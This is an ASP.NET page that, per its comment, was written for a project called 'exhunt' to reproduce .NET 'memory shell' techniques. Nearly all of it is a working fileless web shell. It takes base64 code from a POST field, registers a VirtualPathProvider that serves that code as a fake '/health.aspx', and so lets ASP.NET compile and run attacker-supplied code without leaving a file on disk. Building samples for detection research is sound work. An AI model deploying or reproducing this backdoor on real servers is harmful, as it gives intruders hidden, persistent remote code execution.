<%@ Page Language="C#" %>
<%-- Written for exhunt after public descriptions of .NET "memory shells" (a page that registers a VirtualPathProvider answering for a path with request data, compiled by ASP.NET; no file of its own on disk). --%>
<%@ Import Namespace="System.Web.Hosting" %>
<script runat="server">
public class HealthPathProvider : VirtualPathProvider {
    public override bool FileExists(string path) {
        return path.EndsWith("/health.aspx") || Previous.FileExists(path);
    }
    public override VirtualFile GetFile(string path) {
        if (path.EndsWith("/health.aspx")) return new HealthFile(path);
        return Previous.GetFile(path);
    }
}
public class HealthFile : VirtualFile {
    public HealthFile(string p) : base(p) {}
    public override System.IO.Stream Open() {
        string body = HttpContext.Current.Application["pg"] as string;
        return new System.IO.MemoryStream(Convert.FromBase64String(body));
    }
}
void Page_Load(object s, EventArgs e) {
    Application["pg"] = Request.Form["pg"];
    HostingEnvironment.RegisterVirtualPathProvider(new HealthPathProvider());
    Response.Write("ok");
}
</script>
